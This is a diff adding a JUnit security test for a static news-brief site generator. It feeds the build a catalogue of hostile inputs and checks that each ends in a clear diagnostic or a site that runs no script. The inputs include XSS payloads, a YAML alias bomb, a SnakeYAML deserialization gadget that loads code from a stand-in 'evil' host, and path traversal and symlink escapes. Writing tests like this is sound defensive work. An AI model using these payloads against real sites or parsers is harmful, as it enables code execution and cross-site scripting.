@@ -1,0 +1,258 @@
+package newsbrief.hardening;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.IOException;
+import java.io.PrintWriter;
+import java.io.StringWriter;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import java.util.stream.Stream;
+import newsbrief.cli.Main;
+import newsbrief.testing.SiteFiles;
+import org.jsoup.nodes.Document;
+import org.jsoup.nodes.Element;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+/**
+ * A catalogue of hostile inputs, each with what must happen: a named diagnostic, or a site built
+ * without anything that could run in a reader's browser. No case may end in a stack trace, run
+ * longer than a few seconds, or leave a half-written site.
+ */
+class HostileInputCatalogueTest {
+
+    /** A valid brief; the cases below change one thing in it. */
+    static final String BRIEF = """
+            ---
+            title: "Regional grid operators agree to share outage data"
+            date: 2026-11-26
+            tags: [energy, grids]
+            ---
+
+            ## The Summary
+
+            - Five regional grid operators will publish outage data in one shared format.
+            - The first joint report is due in March.
+
+            ## The Signal
+
+            Until now each operator reported outages its own way, which made comparisons slow.
+
+            ## The Implication
+
+            Watch whether smaller utilities adopt the same format before the spring report.
+            """;
+
+    /** What a case must end in. */
+    record Expect(String rule, boolean refusedOutput) {
+        static Expect diagnostic(String rule) {
+            return new Expect(rule, false);
+        }
+
+        static Expect safeSite() {
+            return new Expect(null, false);
+        }
+
+        static Expect refusal() {
+            return new Expect(null, true);
+        }
+    }
+
+    /** One hostile input: the brief's bytes, something else to do to the content folder, and the outcome. */
+    record Case(byte[] brief, Setup setup, Expect expect) {
+    }
+
+    interface Setup {
+        /** Changes the content folder; returns the output folder to build into. */
+        Path apply(Path content, Path temp) throws IOException;
+    }
+
+    private static final Setup PLAIN = (content, temp) -> temp.resolve("out");
+
+    static Case frontMatter(String from, String to, Expect expect) {
+        return new Case(BRIEF.replace(from, to).getBytes(StandardCharsets.UTF_8), PLAIN, expect);
+    }
+
+    static Case addToFrontMatter(String lines, Expect expect) {
+        return frontMatter("tags: [energy, grids]\n", "tags: [energy, grids]\n" + lines + "\n", expect);
+    }
+
+    static Case addToSignal(String markdown, Expect expect) {
+        return frontMatter("comparisons slow.\n", "comparisons slow.\n\n" + markdown + "\n", expect);
+    }
+
+    static Case bytes(byte[] brief, Expect expect) {
+        return new Case(brief, PLAIN, expect);
+    }
+
+    static Case setup(Setup setup, Expect expect) {
+        return new Case(BRIEF.getBytes(StandardCharsets.UTF_8), setup, expect);
+    }
+
+    static Stream<Arguments> catalogue() {
+        String aliasBomb = "a: &a [x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\n"
+                + "c: &c [*b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c]";
+        return Stream.of(
+                // Front matter
+                Arguments.of("no front matter", bytes(BRIEF.substring(BRIEF.indexOf("## The Summary"))
+                        .getBytes(StandardCharsets.UTF_8), Expect.diagnostic("front-matter-missing"))),
+                Arguments.of("front matter never closed", frontMatter("---\n\n## The Summary", "\n## The Summary",
+                        Expect.diagnostic("front-matter-unclosed"))),
+                Arguments.of("empty file", bytes(new byte[0], Expect.diagnostic("front-matter-missing"))),
+                Arguments.of("YAML syntax error", addToFrontMatter("author: [unclosed", Expect.diagnostic("yaml-syntax"))),
+                Arguments.of("billion laughs", addToFrontMatter(aliasBomb, Expect.diagnostic("yaml-alias"))),
+                Arguments.of("Java type tag", addToFrontMatter("author: !!javax.script.ScriptEngineManager "
+                        + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil/\"]]]]", Expect.diagnostic("yaml-tag"))),
+                Arguments.of("deep YAML nesting", addToFrontMatter("author: " + "[".repeat(5000) + "]".repeat(5000),
+                        Expect.diagnostic("yaml-syntax"))),
+                Arguments.of("duplicate key", addToFrontMatter("title: \"Another\"", Expect.diagnostic("yaml-duplicate-key"))),
+                Arguments.of("title is a list", frontMatter("title: \"Regional grid operators agree to share outage data\"",
+                        "title: [a, b]", Expect.diagnostic("field-type"))),
+                Arguments.of("10,000-character title", frontMatter("Regional grid operators agree to share outage data",
+                        "x".repeat(10_000), Expect.diagnostic("field-max-length"))),
+                Arguments.of("script in title", frontMatter("Regional grid operators agree to share outage data",
+                        "</title></script><script>alert(1)</script>", Expect.safeSite())),
+                Arguments.of("CDATA end in title", frontMatter("Regional grid operators agree to share outage data",
+                        "Feeds ]]> break <![CDATA[ here", Expect.safeSite())),
+                Arguments.of("quotes in title", frontMatter("\"Regional grid operators agree to share outage data\"",
+                        "'He said \"no\", it''s \\\\ final'", Expect.safeSite())),
+                Arguments.of("attribute breakout in description", addToFrontMatter(
+                        "description: '\"><img src=x onerror=alert(1)>'", Expect.safeSite())),
+                Arguments.of("script in author", addToFrontMatter("author: \"<script>alert(1)</script>\"",
+                        Expect.safeSite())),
+                Arguments.of("path traversal in tag", frontMatter("[energy, grids]", "[\"../../etc\"]",
+                        Expect.diagnostic("field-pattern"))),
+                Arguments.of("path traversal in slug", addToFrontMatter("slug: ../../evil", Expect.diagnostic("field-slug"))),
+                Arguments.of("impossible date", frontMatter("2026-11-26", "2024-02-30", Expect.diagnostic("field-date"))),
+                Arguments.of("date out of range", frontMatter("2026-11-26", "+999999999-12-31", Expect.diagnostic("field-date"))),
+                Arguments.of("javascript source URL", addToFrontMatter("sources: [{title: x, url: \"javascript:alert(1)\"}]",
+                        Expect.diagnostic("field-url"))),
+                Arguments.of("data source URL", addToFrontMatter("sources: [{title: x, url: \"data:text/html,<script>1</script>\"}]",
+                        Expect.diagnostic("field-url"))),
+                Arguments.of("javascript card image", addToFrontMatter("image: \"javascript:alert(1)\"", Expect.safeSite())),
+                Arguments.of("draft as text", addToFrontMatter("draft: \"false\"", Expect.diagnostic("field-type"))),
+                // Encoding and files
+                Arguments.of("NUL byte", bytes(BRIEF.replace("Five", "Fi\0ve").getBytes(StandardCharsets.UTF_8),
+                        Expect.diagnostic("file-encoding"))),
+                Arguments.of("invalid UTF-8", bytes(concat(BRIEF.getBytes(StandardCharsets.UTF_8), new byte[] {(byte) 0xC3, 0x28}),
+                        Expect.diagnostic("file-encoding"))),
+                Arguments.of("UTF-16 file", bytes(BRIEF.getBytes(StandardCharsets.UTF_16), Expect.diagnostic("file-encoding"))),
+                Arguments.of("BOM and CRLF", bytes(("\uFEFF" + BRIEF.replace("\n", "\r\n")).getBytes(StandardCharsets.UTF_8),
+                        Expect.safeSite())),
+                Arguments.of("file over the size limit", addToSignal("word ".repeat(250_000), Expect.diagnostic("file-too-large"))),
+                Arguments.of("symbolic link out of content", setup((content, temp) -> {
+                    Path secret = Files.writeString(temp.resolve("secret.md"), BRIEF);
+                    Files.createSymbolicLink(content.resolve("briefs/2026-11-26-linked.md"), secret);
+                    return temp.resolve("out");
+                }, Expect.diagnostic("file-outside-content"))),
+                // Body
+                Arguments.of("script block", addToSignal("<script>alert(1)</script>", Expect.diagnostic("block-not-allowed"))),
+                Arguments.of("inline script", addToSignal("Text <script>alert(1)</script> more.", Expect.safeSite())),
+                Arguments.of("inline event handler", addToSignal("Text <img src=x onerror=alert(1)> more.", Expect.safeSite())),
+                Arguments.of("javascript Markdown link", addToSignal("[click](javascript:alert(1))", Expect.safeSite())),
+                Arguments.of("entity-encoded javascript link", addToSignal("[click](&#106;avascript:alert(1))", Expect.safeSite())),
+                Arguments.of("javascript autolink", addToSignal("<javascript:alert(1)>", Expect.safeSite())),
+                Arguments.of("raw javascript anchor", addToSignal("<a href=\"JaVaScRiPt:alert(1)\">x</a>", Expect.safeSite())),
+                Arguments.of("iframe block", addToSignal("<iframe src=\"https://evil.example/\"></iframe>",
+                        Expect.diagnostic("block-not-allowed"))),
+                Arguments.of("inline iframe", addToSignal("See <iframe src=\"https://evil.example/\"></iframe>.",
+                        Expect.safeSite())),
+                Arguments.of("object and embed", addToSignal("x <object data=x></object><embed src=x>", Expect.safeSite())),
+                Arguments.of("style element", addToSignal("x <style>body{display:none}</style>", Expect.safeSite())),
+                Arguments.of("svg onload", addToSignal("x <svg onload=alert(1)><circle r=1 /></svg>", Expect.safeSite())),
+                Arguments.of("form and button", addToSignal("x <form action=https://evil/><button>Go</button></form>",
+                        Expect.safeSite())),
+                Arguments.of("data URI image", addToSignal("![x](data:text/html;base64,PHNjcmlwdD4=)", Expect.safeSite())),
+                Arguments.of("script in heading", frontMatter("## The Signal", "## <script>alert(1)</script>",
+                        Expect.diagnostic("section-unknown"))),
+                Arguments.of("5,000 nested quotes", addToSignal(">".repeat(5000) + " deep", Expect.safeSite())),
+                Arguments.of("10,000 brackets", addToSignal("[".repeat(10_000) + "x" + "]".repeat(10_000), Expect.safeSite())),
+                Arguments.of("10,000 emphasis markers", addToSignal("*_".repeat(10_000) + "x", Expect.safeSite())),
+                Arguments.of("data URI link", addToSignal("[x](data:text/html,<script>alert(1)</script>)", Expect.safeSite())),
+                Arguments.of("50,000 list items", addToSignal("- a\n".repeat(50_000), Expect.safeSite())),
+                // Output folder
+                Arguments.of("output into the content folder", setup((content, temp) -> content.resolve("site"),
+                        Expect.refusal())),
+                Arguments.of("output over someone's folder", setup((content, temp) -> {
+                    Path folder = Files.createDirectories(temp.resolve("thesis"));
+                    Files.writeString(folder.resolve("chapter1.tex"), "years of work");
+                    return folder;
+                }, Expect.refusal())),
+                Arguments.of("output onto a file", setup((content, temp) -> Files.writeString(temp.resolve("notes.txt"), "x"),
+                        Expect.refusal())));
+    }
+
+    private static byte[] concat(byte[] a, byte[] b) {
+        byte[] all = new byte[a.length + b.length];
+        System.arraycopy(a, 0, all, 0, a.length);
+        System.arraycopy(b, 0, all, a.length, b.length);
+        return all;
+    }
+
+    @TempDir
+    Path temp;
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("catalogue")
+    void endsInAClearDiagnosticOrASafeSite(String name, Case hostile) throws IOException {
+        Path content = temp.resolve("content");
+        SiteFiles.copyTree(Path.of("src/test/resources/sites/basic/content"), content);
+        Files.write(content.resolve("briefs/2026-11-26-hostile.md"), hostile.brief());
+        Path out = hostile.setup().apply(content, temp);
+        List<String> before = Files.isDirectory(out) ? SiteFiles.list(out) : List.of();
+        StringWriter stdout = new StringWriter();
+        StringWriter stderr = new StringWriter();
+
+        int exit = assertTimeoutPreemptively(Duration.ofSeconds(20), () -> Main.run(
+                new String[] {"build", "--content", content.toString(), "--out", out.toString(), "--color=never"},
+                new PrintWriter(stdout), new PrintWriter(stderr)));
+
+        String errors = stderr.toString();
+        assertFalse(errors.contains("Exception") || errors.contains("\tat "), () -> "a stack trace:\n" + errors);
+        Expect expect = hostile.expect();
+        if (expect.refusedOutput()) {
+            assertEquals(2, exit, errors);
+            assertTrue(errors.contains("error: refusing"), errors);
+            assertEquals(before, Files.isDirectory(out) ? SiteFiles.list(out) : List.of(), "the folder is untouched");
+        } else if (expect.rule() != null) {
+            assertTrue(errors.contains("[" + expect.rule() + "]"), () -> "expected [" + expect.rule() + "] in:\n" + errors);
+            assertEquals(1, exit, errors);
+            assertFalse(Files.exists(out), "nothing is written");
+        } else {
+            assertEquals(0, exit, errors);
+            assertNothingRuns(out);
+        }
+    }
+
+    /** No page holds a script but JSON-LD, an event handler, a frame or a script URL. */
+    static void assertNothingRuns(Path site) {
+        for (String file : SiteFiles.list(site)) {
+            if (!file.endsWith(".html")) {
+                continue;
+            }
+            Document page = SiteFiles.html(site.resolve(file));
+            for (Element script : page.select("script")) {
+                assertEquals("application/ld+json", script.attr("type"), file + ": " + script);
+            }
+            assertTrue(page.select("iframe, frame, object, embed, style, form, base, meta[http-equiv]").isEmpty(),
+                    file + " holds active elements");
+            for (Element element : page.getAllElements()) {
+                element.attributes().forEach(attribute -> {
+                    assertFalse(attribute.getKey().toLowerCase().startsWith("on"), file + ": " + element);
+                    String value = attribute.getValue().replaceAll("\\s", "").toLowerCase();
+                    assertFalse(value.startsWith("javascript:") || value.startsWith("vbscript:")
+                            || value.startsWith("data:text"), file + ": " + element);
+                });
+            }
+        }
+    }
+}
